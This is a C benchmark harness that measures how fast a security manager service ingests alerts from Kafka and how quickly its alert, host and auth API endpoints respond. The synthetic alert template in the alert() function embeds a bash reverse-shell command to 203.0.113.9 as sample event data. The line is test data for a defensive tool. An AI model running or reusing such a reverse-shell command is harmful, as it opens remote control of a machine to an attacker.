/* bench_manager: rampart-manager's alert ingest rate from Kafka and its list latencies.
 *
 * Starts Redis, the Kafka-protocol broker, jongodb and the manager, then
 *   1. writes --hosts host documents straight into MongoDB (as heartbeats would leave them:
 *      jongodb, the test server, runs every update as a collection scan, so 10,000 hosts
 *      heartbeating through Kafka would measure jongodb, not the manager), then produces
 *      --alerts alerts to rampart.alerts (about 1.4 KB of JSON each, like the hub's) and times
 *      how long the manager takes to store them (rampart_manager_stored_total): the ingest
 *      rate;
 *   2. runs --clients concurrent clients (keep-alive, one libcurl handle each) for --seconds
 *      per scenario and prints p50/p99 latency and requests/s of:
 *        alerts, filtered (status=new), first page of 50
 *        alerts, filtered, deep page (offset --deep)
 *        hosts, sorted by last_seen, first page of 50
 *        auth/me (token check against Redis, no MongoDB): the manager's own overhead
 *
 *   bench_manager [--hosts 10000] [--alerts 100000] [--clients 32] [--seconds 10] [--deep 10000]
 */
#include <curl/curl.h>
#include <errno.h>
#include <getopt.h>
#include <jansson.h>
#include <librdkafka/rdkafka.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#include <mongoc/mongoc.h>

#include "tests/harness/harness.h"

#define ADMIN_PW   "bench-admin-password"
#define SAMPLE_MAX 2000000

static struct {
    long hosts, alerts, clients, deep;
    double seconds;
    char base[64], token[2048], bootstrap[256];
} B = {10000, 100000, 32, 10000, 10.0, "", "", ""};

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* CPU seconds (user + system) used so far by process pid. */
static double cpu_s(pid_t pid)
{
    char path[64], buf[1024];
    snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return 0;
    size_t n = fread(buf, 1, sizeof(buf) - 1, f);
    fclose(f);
    buf[n] = '\0';
    const char *p = strrchr(buf, ')');
    unsigned long ut = 0, st = 0;
    /* after ")": state ppid pgrp session tty tpgid flags minflt cminflt majflt cmajflt utime stime
     */
    if (!p || sscanf(p + 2, "%*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %lu %lu", &ut, &st) != 2)
        return 0;
    return (double)(ut + st) / (double)sysconf(_SC_CLK_TCK);
}

static void die(const char *what)
{
    fprintf(stderr, "bench_manager: %s\n", what);
    exit(1);
}

/* ---- seeding through Kafka ---------------------------------------------------------------- */

static rd_kafka_t *producer(void)
{
    char err[256];
    rd_kafka_conf_t *c = rd_kafka_conf_new();
    rd_kafka_conf_set(c, "bootstrap.servers", B.bootstrap, err, sizeof(err));
    rd_kafka_conf_set(c, "linger.ms", "20", err, sizeof(err));
    rd_kafka_conf_set(c, "queue.buffering.max.messages", "1000000", err, sizeof(err));
    rd_kafka_t *p = rd_kafka_new(RD_KAFKA_PRODUCER, c, err, sizeof(err));
    if (!p)
        die(err);
    return p;
}

static void produce(rd_kafka_t *p, const char *topic, const char *key, const void *v, size_t len)
{
    rd_kafka_resp_err_t e;
    while (
        (e = rd_kafka_producev(p, RD_KAFKA_V_TOPIC(topic), RD_KAFKA_V_MSGFLAGS(RD_KAFKA_MSG_F_COPY),
                               RD_KAFKA_V_VALUE((void *)v, len), RD_KAFKA_V_KEY(key, strlen(key)),
                               RD_KAFKA_V_END)) == RD_KAFKA_RESP_ERR__QUEUE_FULL)
        rd_kafka_poll(p, 10);
    if (e)
        die(rd_kafka_err2str(e));
}

/* --hosts host documents, shaped as ingest.c leaves them after a heartbeat. */
static void seed_hosts(const char *uri)
{
    mongoc_client_t *c = mongoc_client_new(uri);
    mongoc_collection_t *coll = mongoc_client_get_collection(c, "rampart", "hosts");
    int64_t now = (int64_t)time(NULL) * 1000;
    for (long i = 0; i < B.hosts;) {
        mongoc_bulk_operation_t *b = mongoc_collection_create_bulk_operation_with_opts(coll, NULL);
        for (long k = 0; k < 1000 && i < B.hosts; k++, i++) {
            char id[32], host[32];
            snprintf(id, sizeof(id), "bench-%05ld", i);
            snprintf(host, sizeof(host), "host-%05ld", i);
            bson_t d = BSON_INITIALIZER, f, t;
            BSON_APPEND_UTF8(&d, "_id", id);
            BSON_APPEND_UTF8(&d, "hostname", host);
            BSON_APPEND_UTF8(&d, "version", "1.0.0");
            BSON_APPEND_UTF8(&d, "agent_center", "ac-1");
            BSON_APPEND_INT64(&d, "first_seen", now - 86400000);
            BSON_APPEND_INT64(&d, "last_seen", now - (i % 30) * 1000);
            BSON_APPEND_BOOL(&d, "online", true);
            BSON_APPEND_DOCUMENT_BEGIN(&d, "facts", &f);
            BSON_APPEND_UTF8(&f, "cpu", "0.5");
            BSON_APPEND_UTF8(&f, "rss", "51200");
            BSON_APPEND_UTF8(&f, "kernel_version", "6.1.0");
            bson_append_document_end(&d, &f);
            BSON_APPEND_ARRAY_BEGIN(&d, "tags", &t);
            BSON_APPEND_UTF8(&t, "0", i % 2 ? "web" : "db");
            bson_append_array_end(&d, &t);
            mongoc_bulk_operation_insert_with_opts(b, &d, NULL, NULL);
            bson_destroy(&d);
        }
        bson_error_t e;
        if (!mongoc_bulk_operation_execute(b, NULL, &e))
            die(e.message);
        mongoc_bulk_operation_destroy(b);
    }
    mongoc_collection_destroy(coll);
    mongoc_client_destroy(c);
}

static const char *const SEV[] = {"info", "low", "medium", "high", "critical"};

static void alert(rd_kafka_t *p, long i, const char *salt)
{
    char buf[2048], agent[32];
    long h = i % B.hosts;
    snprintf(agent, sizeof(agent), "bench-%05ld", h);
    long long t = (long long)time(NULL) * 1000 - (B.alerts - i) * 10;
    snprintf(buf, sizeof(buf),
             "{\"schema\":\"rampart.alert/1\",\"id\":\"%s%016lx\",\"kind\":\"alert\","
             "\"rule\":{\"id\":\"rule_%ld\",\"name\":\"Benchmark rule %ld\",\"severity\":\"%s\","
             "\"type\":\"simple\",\"attack\":[\"T1059.004\"],\"tags\":[],\"description\":\"A "
             "command line redirects a shell to a socket.\",\"remediation\":\"Kill it.\"},"
             "\"count\":1,\"first_seen_ms\":%lld,\"last_seen_ms\":%lld,\"detected_at_ms\":%lld,"
             "\"hub\":\"hub-1\",\"agent\":{\"id\":\"%s\",\"hostname\":\"host-%05ld\","
             "\"ipv4\":[\"10.0.%ld.%ld\"]},\"data_type\":59,\"event_time_ms\":%lld,"
             "\"server_time\":%lld,\"source\":{\"partition\":1,\"offset\":%ld},"
             "\"key\":{\"exe\":\"/bin/bash\"},\"event\":{\"exe\":\"/bin/bash\",\"comm\":\"bash\","
             "\"argv\":\"bash -i >& /dev/tcp/203.0.113.9/%ld 0>&1\",\"pid\":\"%ld\",\"ppid\":"
             "\"9042\"},\"process_chain\":[{\"pid\":%ld,\"ppid\":9042,\"exe\":\"/bin/bash\","
             "\"comm\":\"bash\",\"argv\":\"bash -i\",\"uid\":\"33\"},{\"pid\":9042,\"ppid\":1,"
             "\"exe\":\"/usr/sbin/php-fpm8.2\",\"comm\":\"php-fpm8.2\",\"argv\":\"php-fpm: pool "
             "www\",\"uid\":\"33\"}]}",
             salt, (unsigned long)i, i % 64, i % 64, SEV[i % 5], t, t, t, agent, h, h / 250,
             h % 250, t, t / 1000, i, 20000 + i % 40000, 10000 + i, 10000 + i);
    produce(p, "rampart.alerts", agent, buf, strlen(buf));
}

/* ---- HTTP ---------------------------------------------------------------------------------- */

static size_t sink(char *p, size_t s, size_t n, void *ud)
{
    (void)p;
    (void)ud;
    return s * n;
}

static double metric(const char *name_and_labels)
{
    char url[128];
    snprintf(url, sizeof(url), "%s/metrics", B.base);
    harness_http_response_t r;
    harness_http("GET", url, NULL, 0, NULL, &r);
    double v = 0;
    const char *p = r.body ? strstr(r.body, name_and_labels) : NULL;
    if (p)
        v = strtod(p + strlen(name_and_labels), NULL);
    harness_http_response_free(&r);
    return v;
}

typedef struct {
    const char *path;
    double *lat;
    size_t n;
    long errors;
    double until;
} worker_t;

static void *worker(void *arg)
{
    worker_t *w = arg;
    CURL *h = curl_easy_init();
    char url[512], auth[2100];
    snprintf(url, sizeof(url), "%s%s", B.base, w->path);
    snprintf(auth, sizeof(auth), "Authorization: Bearer %s", B.token);
    struct curl_slist *hdr = curl_slist_append(NULL, auth);
    curl_easy_setopt(h, CURLOPT_URL, url);
    curl_easy_setopt(h, CURLOPT_HTTPHEADER, hdr);
    curl_easy_setopt(h, CURLOPT_WRITEFUNCTION, sink);
    curl_easy_setopt(h, CURLOPT_NOSIGNAL, 1L);
    curl_easy_setopt(h, CURLOPT_TIMEOUT, 30L);
    size_t cap = SAMPLE_MAX / (size_t)B.clients;
    while (now_s() < w->until && w->n < cap) {
        double t0 = now_s();
        long st = 0;
        if (curl_easy_perform(h) == CURLE_OK)
            curl_easy_getinfo(h, CURLINFO_RESPONSE_CODE, &st);
        if (st != 200)
            w->errors++;
        w->lat[w->n++] = now_s() - t0;
    }
    curl_slist_free_all(hdr);
    curl_easy_cleanup(h);
    return NULL;
}

static int cmp(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

static void scenario(const char *name, const char *path)
{
    worker_t *w = calloc((size_t)B.clients, sizeof(*w));
    pthread_t *th = calloc((size_t)B.clients, sizeof(*th));
    size_t cap = SAMPLE_MAX / (size_t)B.clients;
    double start = now_s();
    for (long i = 0; i < B.clients; i++) {
        w[i].path = path;
        w[i].lat = malloc(cap * sizeof(double));
        w[i].until = start + B.seconds;
        pthread_create(&th[i], NULL, worker, &w[i]);
    }
    size_t total = 0;
    long errors = 0;
    for (long i = 0; i < B.clients; i++) {
        pthread_join(th[i], NULL);
        total += w[i].n;
        errors += w[i].errors;
    }
    double elapsed = now_s() - start;
    double *all = malloc((total ? total : 1) * sizeof(double));
    size_t k = 0;
    for (long i = 0; i < B.clients; i++) {
        memcpy(all + k, w[i].lat, w[i].n * sizeof(double));
        k += w[i].n;
        free(w[i].lat);
    }
    qsort(all, total, sizeof(double), cmp);
    double p50 = total ? all[total / 2] : 0, p99 = total ? all[(size_t)(total * 0.99)] : 0;
    printf("%-34s clients=%ld requests=%zu rps=%.0f p50_ms=%.1f p99_ms=%.1f errors=%ld\n", name,
           B.clients, total, total / elapsed, p50 * 1000, p99 * 1000, errors);
    fflush(stdout);
    free(all);
    free(w);
    free(th);
}

int main(int argc, char **argv)
{
    static const struct option opts[] = {
        {"hosts", required_argument, NULL, 'H'},   {"alerts", required_argument, NULL, 'a'},
        {"clients", required_argument, NULL, 'c'}, {"seconds", required_argument, NULL, 's'},
        {"deep", required_argument, NULL, 'd'},    {NULL, 0, NULL, 0}};
    int o;
    while ((o = getopt_long(argc, argv, "", opts, NULL)) != -1) {
        switch (o) {
        case 'H':
            B.hosts = atol(optarg);
            break;
        case 'a':
            B.alerts = atol(optarg);
            break;
        case 'c':
            B.clients = atol(optarg);
            break;
        case 's':
            B.seconds = atof(optarg);
            break;
        case 'd':
            B.deep = atol(optarg);
            break;
        default:
            return 2;
        }
    }
    if (B.hosts < 1 || B.alerts < 1 || B.clients < 1 || B.clients > 256 || B.seconds <= 0)
        return 2;
    harness_init("bench_manager");
    curl_global_init(CURL_GLOBAL_DEFAULT);
    uint16_t redis_port;
    char mongo_uri[128], cfg[2048], path[600], secret[80], keys[600], bin[512];
    harness_proc_t *redis = harness_redis_start(&redis_port);
    harness_proc_t *kafka = harness_kafka_start(B.bootstrap, sizeof(B.bootstrap));
    harness_proc_t *mongo = harness_mongo_start(mongo_uri, sizeof(mongo_uri));
    if (!redis || !kafka || !mongo)
        die("cannot start the servers");
    harness_make_keys("bench", secret, sizeof(secret), keys, sizeof(keys));
    unsigned char rnd[32];
    char jwt[80];
    if (getrandom(rnd, sizeof(rnd), 0) != (ssize_t)sizeof(rnd))
        die("getrandom");
    for (int i = 0; i < 32; i++)
        snprintf(jwt + 2 * i, 3, "%02x", rnd[i]);
    char jwt_path[600];
    harness_write_file("jwt.secret", jwt, jwt_path, sizeof(jwt_path));
    uint16_t port = harness_free_port();
    snprintf(cfg, sizeof(cfg),
             "log:\n  level: info\nhttp:\n  listen: 127.0.0.1:%u\n  threads: 8\n"
             "mongo:\n  uri: %s\n  pool_size: 32\nredis:\n  addr: 127.0.0.1:%u\n"
             "kafka:\n  brokers: %s\n  batch: 5000\n"
             "auth:\n  jwt_secret_file: %s\n  access_ttl: 1h\n"
             "hosts:\n  offline_after: 1h\n",
             (unsigned)port, mongo_uri, (unsigned)redis_port, B.bootstrap, jwt_path);
    harness_write_file("manager.yaml", cfg, path, sizeof(path));
    harness_bin("manager/rampart-manager", bin, sizeof(bin));
    char *margv[] = {bin, "-c", path, NULL};
    char *menv[] = {"RAMPART_MANAGER_ADMIN_PASSWORD=" ADMIN_PW, NULL};
    harness_proc_t *mgr = harness_spawn("manager", margv, menv);
    if (!mgr || harness_wait_log(mgr, "event=started", NULL, 0, 30000) < 0)
        die("the manager did not start");
    snprintf(B.base, sizeof(B.base), "http://127.0.0.1:%u", (unsigned)port);
    /* Log in (the first admin appears once MongoDB was reached). */
    for (int i = 0; i < 120 && !B.token[0]; i++) {
        char url[128];
        snprintf(url, sizeof(url), "%s/api/v1/auth/login", B.base);
        const char *body = "{\"username\":\"admin\",\"password\":\"" ADMIN_PW "\"}";
        const char *h[] = {"Content-Type: application/json", NULL};
        harness_http_response_t r;
        harness_http("POST", url, body, strlen(body), h, &r);
        json_t *j = r.status == 200 ? json_loads(r.body, 0, NULL) : NULL;
        if (j)
            snprintf(B.token, sizeof(B.token), "%s",
                     json_string_value(json_object_get(j, "access_token")));
        json_decref(j);
        harness_http_response_free(&r);
        if (!B.token[0])
            usleep(250000);
    }
    if (!B.token[0])
        die("cannot log in");

    /* 1. Ingest. */
    seed_hosts(mongo_uri);
    rd_kafka_t *p = producer();
    double cpu0 = cpu_s(harness_pid(mgr));
    double t0 = now_s();
    char salt[17];
    snprintf(salt, sizeof(salt), "%08x%08x", (unsigned)time(NULL), (unsigned)getpid());
    for (long i = 0; i < B.alerts; i++)
        alert(p, i, salt);
    rd_kafka_flush(p, 120000);
    rd_kafka_destroy(p);
    double produced = now_s();
    double stored = 0;
    double deadline = now_s() + 1800;
    while (now_s() < deadline) {
        stored = metric("rampart_manager_stored_total{topic=\"alerts\"} ");
        if (stored >= (double)B.alerts)
            break;
        usleep(100000);
    }
    double done = now_s();
    double cpu = cpu_s(harness_pid(mgr)) - cpu0;
    printf("machine: %ld CPUs; manager, jongodb, Kafka mock and clients on the same machine\n",
           sysconf(_SC_NPROCESSORS_ONLN));
    printf("ingest: alerts=%ld produced_in_s=%.1f stored_in_s=%.1f rate=%.0f alerts/s (first "
           "produce to last acknowledged write)\n",
           (long)stored, produced - t0, done - t0, stored / (done - t0));
    printf("ingest: manager CPU %.2f s for %ld alerts = %.0f alerts per CPU-second (the "
           "manager's own cost; the rate above is bound by the MongoDB server)\n",
           cpu, (long)stored, cpu > 0 ? stored / cpu : 0);
    fflush(stdout);
    if (stored < (double)B.alerts)
        die("not every alert was stored");

    /* 2. Latency. */
    char deep[128];
    long off = B.deep < B.alerts / 5 ? B.deep : B.alerts / 5;
    snprintf(deep, sizeof(deep), "/api/v1/alerts?status=new&limit=50&offset=%ld", off);
    scenario("alerts status=new, first page", "/api/v1/alerts?status=new&limit=50");
    char label[64];
    snprintf(label, sizeof(label), "alerts status=new, offset %ld", off);
    scenario(label, deep);
    scenario("hosts sort=last_seen, first page", "/api/v1/hosts?sort=last_seen&limit=50");
    scenario("auth/me (JWT + Redis, no MongoDB)", "/api/v1/auth/me");
    harness_stop(mgr);
    harness_stop(kafka);
    harness_stop(mongo);
    harness_stop(redis);
    curl_global_cleanup();
    return 0;
}
